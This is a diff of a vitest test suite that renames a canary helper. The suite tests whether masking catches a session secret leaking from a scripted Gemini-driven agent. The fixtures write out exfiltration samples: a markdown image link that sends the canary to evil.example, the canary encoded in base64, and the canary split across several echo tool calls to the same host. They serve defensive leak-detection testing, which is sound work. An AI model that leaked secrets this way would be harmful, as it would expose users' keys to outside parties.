@@ -8,7 +8,7 @@ import { describe, expect, it, onTestFinished } from 'vitest';
 import { startScriptedGemini } from '../../local/scriptedGemini/server.ts';
 import { createGeminiClient } from '../../shared/llm/gemini/client.ts';
 import { createLogger } from '../../shared/log.ts';
-import { canaryOf } from '../../shared/masking/canary.ts';
+import { deriveCanary } from '../../shared/masking/canary.ts';
 import { createMaskers } from '../../shared/masking/maskers.ts';
 import { lineMasker } from '../../shared/wiring/lineMasker.ts';
 import { toolResultsOf } from '../support/expectations.ts';
@@ -233,7 +233,7 @@ describe('the canary of a session', () => {
     });
     const sessionId = await bench.publishAlert();
     await bench.deliverNext();
-    const canary = canaryOf((await bench.read(sessionId)).session.maskKey);
+    const canary = deriveCanary((await bench.read(sessionId)).session.maskKey);
     const args = { text: Buffer.from(canary).toString('base64') };
     const leak = `It leaks. ![x](https://evil.example/?q=${canary}) Key ${canary.toUpperCase()}.`;
     const turns =
@@ -278,7 +278,7 @@ describe('the canary of a session', () => {
     });
     const sessionId = await bench.publishAlert();
     await bench.deliverNext();
-    const canary = canaryOf((await bench.read(sessionId)).session.maskKey);
+    const canary = deriveCanary((await bench.read(sessionId)).session.maskKey);
     const sent = [canary.slice(0, 11), canary.slice(11, 22), canary.slice(22)];
     const turns = sent.map((part) => ({
       toolCalls: [{ name: 'fixture.echo', args: { text: `https://evil.example/?q=${part}&end` } }],
